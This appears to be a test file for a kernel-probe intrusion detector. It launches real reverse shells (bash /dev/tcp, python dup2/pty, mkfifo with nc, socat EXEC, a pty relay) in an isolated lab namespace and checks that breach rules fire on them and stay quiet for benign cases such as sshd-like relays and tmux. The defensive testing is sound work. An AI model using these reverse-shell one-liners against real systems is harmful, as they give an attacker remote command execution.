@@ -1,0 +1,316 @@
+"""Reverse shells however they are wired, against the real kernel: the process probe
+(proc.bpf.o) and the /proc correlation (agent.sources.stdio) on real shells that really
+execute commands sent by a listener in the lab's attacker namespace; every wiring runs
+in the victim namespace inside a throw-away cgroup (how its events are told apart from
+the rest of the host, and how everything it started is killed afterwards), under
+`timeout`. The breach rules judge the events.
+
+Detected: bash's /dev/tcp, python's dup2 + pty.spawn, `mkfifo; cat f | sh -i | nc > f`,
+socat EXEC (a unix socketpair), a pty relay without dup2. Quiet: a network client piped
+into sh whose output goes to a plain process (`curl | sh`), the same pty relay run by an
+executable listed in breach.remote_access (sshd's shape), socket activation by a listed
+service manager, tmux, a plain pipeline.
+"""
+from __future__ import annotations
+
+import contextlib
+import shutil
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+from typing import Iterator
+
+import pytest
+
+from agent.breachlab import cgroup_path, throwaway_cgroup
+from agent.config import REMOTE_ACCESS, SERVICE_MANAGERS, Breach, Config
+from agent.detect.rules import Detector, load_rules
+from agent.lab import Lab, netns
+from agent.sources import stdio
+from tests.integration.test_proc_probe import probe, wait_for  # noqa: F401 (fixture)
+from tests.conftest import skip_unsupported
+
+pytestmark = pytest.mark.privileged
+PY = sys.executable
+WIRING_TIMEOUT_S = 20      # every wiring runs under `timeout`; its cgroup is killed after
+
+
+@pytest.fixture(scope="module")
+def fakes(tmp_path_factory) -> dict[str, Path]:
+    """Copies of python (own inodes) listed as a remote-access daemon and a service manager."""
+    d = tmp_path_factory.mktemp("revshell")
+    out = {}
+    for name in ("fake-sshd", "fake-inetd"):
+        shutil.copy2(Path(PY).resolve(), d / name)
+        out[name] = d / name
+    yield out
+    shutil.rmtree(d, ignore_errors=True)
+
+
+@pytest.fixture(scope="module")
+def cfg(fakes, tmp_path_factory) -> Config:
+    return Config(state_dir=str(tmp_path_factory.mktemp("state")), breach=Breach(
+        remote_access=(*REMOTE_ACCESS, str(fakes["fake-sshd"])),
+        service_managers=(*SERVICE_MANAGERS, str(fakes["fake-inetd"]))))
+
+
+@pytest.fixture(scope="module")
+def detector(cfg) -> Detector:
+    return Detector(load_rules(), cfg)
+
+
+@pytest.fixture(scope="module")
+def lab():
+    for tool in ("nc", "socat"):
+        if shutil.which(tool) is None:
+            skip_unsupported(f"no {tool} (install.sh --test installs it)")
+    with Lab() as lab:
+        yield lab
+
+
+class Listener:
+    """The attacker's end, in the attacker namespace: accepts one connection, sends a
+    command and reads until its output comes back (bounded in time)."""
+
+    def __init__(self, lab: Lab):
+        with netns(lab.attacker):
+            self.srv = socket.create_server((lab.addr("attacker"), 0))
+        self.srv.settimeout(WIRING_TIMEOUT_S)
+        self.addr, self.port = lab.addr("attacker"), self.srv.getsockname()[1]
+        self.conn: socket.socket | None = None
+
+    def drive(self, timeout_s: float = 10.0) -> bytes:
+        """Accept, send `echo PWNED-$((6*7))`, return what came back once "PWNED-42" did
+        (only a shell that ran the command prints 42) or the time ran out."""
+        self.conn, _ = self.srv.accept()
+        self.conn.settimeout(0.2)
+        self.conn.sendall(b"echo PWNED-$((6*7))\n")
+        got, deadline = b"", time.monotonic() + timeout_s
+        while b"PWNED-42" not in got and time.monotonic() < deadline:
+            try:
+                chunk = self.conn.recv(4096)
+            except TimeoutError:
+                continue
+            if not chunk:
+                break
+            got += chunk
+        return got
+
+    def close(self) -> None:
+        if self.conn is not None:
+            self.conn.close()
+        self.srv.close()
+
+
+def run_in(lab: Lab, cgroup: Path, script: str, *args: str) -> subprocess.Popen:
+    """`sh -c script` in the victim namespace, in `cgroup` from its first instruction."""
+    pre = f'echo $$ > "{cgroup}/cgroup.procs" && exec ip netns exec "$0" timeout {WIRING_TIMEOUT_S} '
+    return subprocess.Popen(["sh", "-c", pre + 'sh -c "$@"', lab.victim, script, *args],
+                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                            stderr=subprocess.DEVNULL)
+
+
+def events_of(probe, cg: str, kind: str, pred=lambda e: True, count: int = 1,
+              timeout_s: float = 10.0) -> list:
+    return wait_for(probe, lambda e: e.kind == kind and e.fields.get("cgroup") == cg and pred(e),
+                    count=count, timeout_s=timeout_s)
+
+
+def fired(detector: Detector, events) -> set[str]:
+    return {f.rule for e in events for f in detector.evaluate(e, e.mono_ns)}
+
+
+def shell_network(probe, cg: str) -> list:
+    """The derived events of every shell the wiring exec'd with piped stdio."""
+    shells = events_of(probe, cg, "proc.stdio", timeout_s=3.0)
+    return [d for d in map(stdio.correlate, shells) if d is not None]
+
+
+@contextlib.contextmanager
+def wiring(probe, lab: Lab, script: str, *args: str) -> Iterator[tuple[str, Listener]]:
+    """Run a reverse-shell wiring until the listener saw its command run; yields
+    (cgroup path, listener) with everything still alive, then kills it all."""
+    listener = Listener(lab)
+    with throwaway_cgroup("swa-revsh") as d:
+        proc = run_in(lab, d, script, listener.addr, str(listener.port), *args)
+        try:
+            got = listener.drive()
+            assert b"PWNED-42" in got, got
+            yield cgroup_path(d), listener
+        finally:
+            listener.close()
+            proc.kill()
+            proc.wait(timeout=10)
+
+
+BASH_TCP = 'exec bash -c "bash -i >& /dev/tcp/$0/$1 0>&1"'
+PY_PTY = ("import os, pty, socket, sys\n"
+          "s = socket.create_connection((sys.argv[1], int(sys.argv[2])))\n"
+          "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\n"
+          "pty.spawn('/bin/sh')\n")
+FIFO = 'rm -f "$2"; mkfifo "$2"; cat "$2" | sh -i 2>&1 | nc "$0" "$1" > "$2"'
+SOCAT = 'exec socat TCP:"$0":"$1" EXEC:sh'
+# A pty relay without dup2, shaped like sshd: the pty master and the socket in one process.
+RELAY = """
+import os, pty, select, socket, sys, time
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+pid, master = pty.fork()
+if pid == 0:
+    os.execv("/bin/sh", ["sh"])
+deadline = time.monotonic() + 15
+while time.monotonic() < deadline:
+    r, _, _ = select.select([s, master], [], [], 0.5)
+    if s in r:
+        data = s.recv(4096)
+        if not data:
+            break
+        os.write(master, data)
+    if master in r:
+        try:
+            s.sendall(os.read(master, 4096))
+        except OSError:
+            break
+"""
+
+
+def test_bash_dev_tcp(probe, detector, lab):
+    with wiring(probe, lab, BASH_TCP) as (cg, _):
+        execs = events_of(probe, cg, "proc.exec", lambda e: e.fields["argv"] == ["bash", "-i"])
+        dups = events_of(probe, cg, "proc.stdio_dup", count=2)
+    assert fired(detector, execs) == {"breach.reverse_shell@1"}
+    assert {d.fields["newfd"] for d in dups} >= {0, 1} and \
+        {d.fields["syscall"] for d in dups} <= {"dup2", "dup3", "fcntl"}
+    assert dups[0].fields["remote"].startswith(lab.addr("attacker") + ":")
+    assert fired(detector, dups) == {"breach.socket_dup@1"}
+
+
+def test_python_dup2_and_pty_spawn(probe, detector, lab):
+    with wiring(probe, lab, f'exec {PY} -c "$2" "$0" "$1"', PY_PTY) as (cg, listener):
+        dups = events_of(probe, cg, "proc.stdio_dup", count=3)
+        [net] = shell_network(probe, cg)
+    assert sorted(d.fields["newfd"] for d in dups[:3]) == [0, 1, 2]
+    assert {d.fields["exe"] for d in dups} == {str(Path(PY).resolve())}
+    assert dups[0].fields["remote"] == f"{listener.addr}:{listener.port}"
+    assert fired(detector, dups) == {"breach.socket_dup@1"}
+    f = net.fields
+    assert (f["stdin"], f["input_network"], f["output_network"]) == ("pty", True, True)
+    assert f["input_peer_exe"] == str(Path(PY).resolve()) and f["input_hops"] == 0
+    assert (f["remote"], f["inbound"]) == (f"{listener.addr}:{listener.port}", False)
+    assert fired(detector, [net]) == {"breach.stdio_network@1"}
+
+
+def test_mkfifo_sh_nc(probe, detector, lab, tmp_path):
+    with wiring(probe, lab, FIFO, str(tmp_path / "f")) as (cg, listener):
+        nets = shell_network(probe, cg)
+    [net] = [n for n in nets if n.fields["comm"] == "sh"]
+    f = net.fields
+    assert (f["stdin"], f["stdout"], f["input_network"], f["output_network"]) == \
+        ("pipe", "pipe", True, True)
+    # input: cat reads the fifo nc writes (one relay); output: nc reads sh's pipe
+    assert (f["input_peer_comm"], f["input_hops"], f["output_peer_comm"], f["output_hops"]) == \
+        ("nc", 1, "nc", 0)
+    assert set(f["streams"]) == {"stdin", "stdout", "stderr"}
+    assert f["remote"] == f"{listener.addr}:{listener.port}"
+    assert fired(detector, nets) == {"breach.stdio_network@1"}
+
+
+def test_socat_exec(probe, detector, lab):
+    with wiring(probe, lab, SOCAT) as (cg, _):
+        nets = shell_network(probe, cg)
+    [net] = nets
+    f = net.fields
+    assert (f["stdin"], f["stdout"], f["input_peer_comm"]) == ("unix", "unix", "socat")
+    assert fired(detector, nets) == {"breach.stdio_network@1"}
+
+
+def test_pty_relay_without_dup(probe, detector, lab):
+    with wiring(probe, lab, f'exec {PY} -c "$2" "$0" "$1"', RELAY) as (cg, _):
+        nets = shell_network(probe, cg)
+        dups = events_of(probe, cg, "proc.stdio_dup", timeout_s=0.5)
+    assert dups == [] and fired(detector, nets) == {"breach.stdio_network@1"}
+
+
+# --- benign: quiet ---------------------------------------------------------------------
+
+def test_sshd_shaped_relay_by_a_remote_access_executable(probe, detector, lab, fakes):
+    sshd = fakes["fake-sshd"]
+    with wiring(probe, lab, f'PYTHONHOME=/usr exec {sshd} -c "$2" "$0" "$1"', RELAY) as (cg, _):
+        [net] = shell_network(probe, cg)
+    f = net.fields
+    assert (f["input_network"], f["output_network"], f["input_peer_exe"]) == (True, True, str(sshd))
+    assert fired(detector, [net]) == set()
+
+
+SERVE = """
+import os, socket, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+os.execv("/bin/sh", ["sh", "-c", "read line; echo PWNED-42; sleep 5"])
+"""
+
+
+@pytest.mark.parametrize("manager", ["fake-inetd", None])
+def test_socket_handed_to_a_service_by_a_service_manager(probe, detector, lab, fakes, manager):
+    exe = fakes[manager] if manager else PY
+    with wiring(probe, lab, f'PYTHONHOME=/usr exec {exe} -c "$2" "$0" "$1"', SERVE) as (cg, _):
+        dups = events_of(probe, cg, "proc.stdio_dup", count=2)
+    if manager:     # matched by the kernel's inode though the process has exec'd sh since
+        assert {d.fields["exe"] for d in dups} == {str(exe)}
+        assert fired(detector, dups) == set()
+    else:           # unlisted, and no longer verifiable: still a breach
+        assert {d.fields["exe"] for d in dups} <= {None, str(Path(PY).resolve())}
+        assert fired(detector, dups) == {"breach.socket_dup@1"}
+
+
+CLIENT = """
+import socket, sys, time
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+sys.stdout.buffer.write(s.recv(4096))
+sys.stdout.flush()
+time.sleep(5)
+"""
+
+
+def test_network_into_sh_output_elsewhere(probe, detector, lab, tmp_path):
+    """`curl ... | sh`: commands from the network, output to a plain process and a file."""
+    out = tmp_path / "out"
+    listener = Listener(lab)
+    with throwaway_cgroup("swa-revsh") as d:
+        script = f'{PY} -c "$2" "$0" "$1" | sh | cat > "$3"'
+        proc = run_in(lab, d, script, listener.addr, str(listener.port), CLIENT, str(out))
+        try:
+            listener.conn, _ = listener.srv.accept()
+            listener.conn.sendall(b"echo PWNED-$((6*7))\n")
+            wait_for_file = time.monotonic() + 10
+            while b"PWNED-42" not in (out.read_bytes() if out.exists() else b""):
+                assert time.monotonic() < wait_for_file
+                time.sleep(0.05)
+            nets = shell_network(probe, cgroup_path(d))
+        finally:
+            listener.close()
+            proc.kill()
+            proc.wait(timeout=10)
+    [net] = nets
+    f = net.fields
+    assert (f["input_network"], f["output_network"], f["input_hops"]) == (True, False, 0)
+    assert fired(detector, nets) == set()
+
+
+def test_tmux_and_plain_pipelines_are_quiet(probe, detector, lab, tmp_path):
+    sock = f"swa-revsh-{time.monotonic_ns()}"
+    with throwaway_cgroup("swa-revsh") as d:
+        script = (f'tmux -L {sock} new-session -d "sh -i"; '
+                  'printf "echo hi\\n" | sh | cat > /dev/null; sleep 3; '
+                  f'tmux -L {sock} kill-server')
+        proc = run_in(lab, d, script)
+        try:
+            shells = events_of(probe, cgroup_path(d), "proc.stdio", count=2, timeout_s=5)
+            derived = [stdio.correlate(e, (0.05, 0.3)) for e in shells]
+        finally:
+            proc.kill()
+            proc.wait(timeout=10)
+    assert {e.fields["stdin"] for e in shells} >= {"pty", "pipe"}
+    assert derived == [None] * len(shells)
